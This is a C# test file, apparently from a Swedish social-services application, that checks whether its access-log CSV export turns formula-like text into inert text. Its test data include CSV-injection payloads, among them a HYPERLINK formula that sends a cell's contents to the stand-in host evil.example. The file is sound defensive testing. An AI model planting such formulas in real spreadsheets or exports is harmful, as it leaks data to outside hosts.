using System.Net;
using System.Net.Http.Json;
using System.Text;
using SocialJour.Adapters.Contract;
using SocialJour.Core.Lookup;
using SocialJour.Host.Api;
using SocialJour.Modules.Lookup.Endpoints;

namespace SocialJour.Tests.Security;

/// <summary>
/// Free text in the access log (a purpose, an emergency reason) ends up in a spreadsheet when a municipality opens its
/// extract. Text that starts like a formula must arrive as text, not run.
/// </summary>
[Collection(HostCollection.Name)]
public sealed class CsvInjectionTests(HostFixture host)
{
    public static TheoryData<string> Formulas => new()
    {
        "=1+2",
        "+1+1",
        "-1+HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka här\")",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public void No_field_of_the_extract_starts_like_a_formula(string formula)
    {
        var entry = new AccessRecord(7, new DateTimeOffset(2026, 3, 10, 1, 10, 0, TimeSpan.Zero), AccessKind.EmergencyLookup, formula, "201003152384",
            formula, formula, formula, "L1", [new SourceAnswer("0191", SourceStatus.Found)]);

        var names = new Dictionary<long, string> { [7] = formula }; // a display name from the identity provider, too
        var bytes = AccessLogCsv.Write([entry], names, "0191", TimeZoneInfo.FindSystemTimeZoneById("Europe/Stockholm"));

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        var row = Fields(text).Skip(11).ToList(); // the header has 11 fields
        Assert.Equal(11, row.Count);
        Assert.Equal("2026-03-10 02:10:00", row[1]);
        Assert.Equal("20100315-2384", row[5]);
        Assert.All(new[] { row[3], row[4], row[6], row[7], row[8] }, f => Assert.Equal("'" + formula, f));
    }

    [Fact]
    public async Task An_emergency_reason_written_as_a_formula_is_text_in_the_municipalitys_extract()
    {
        using var anna = await HostClients.LoggedIn(host, "anna");
        using var erik = await HostClients.LoggedIn(host, "erik");
        var reason = "-1+HYPERLINK(\"http://evil.example\",\"Akut: polisen på plats\")";
        var lookup = await anna.PostAsJsonAsync("/api/lookups", new { identityNumber = "20100315-2384", emergencyReason = reason });
        Assert.Equal(HttpStatusCode.OK, lookup.StatusCode);
        var yesterday = DateTimeOffset.UtcNow.AddDays(-1).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);
        var tomorrow = DateTimeOffset.UtcNow.AddDays(1).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);

        var csv = await erik.GetAsync($"/api/access-log?municipality=0191&from={yesterday}&to={tomorrow}&format=csv");

        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        var fields = Fields(Encoding.UTF8.GetString(await csv.Content.ReadAsByteArrayAsync())).ToList();
        Assert.Contains("'" + reason, fields);
        Assert.DoesNotContain(reason, fields);
    }

    /// <summary>The fields of a semicolon-separated RFC 4180 text, quotes removed.</summary>
    private static IEnumerable<string> Fields(string csv)
    {
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ';' || c == '\n')
            {
                yield return field.ToString().TrimEnd('\r');
                field.Clear();
            }
            else
            {
                field.Append(c);
            }
        }

        if (field.Length > 0)
        {
            yield return field.ToString();
        }
    }
}
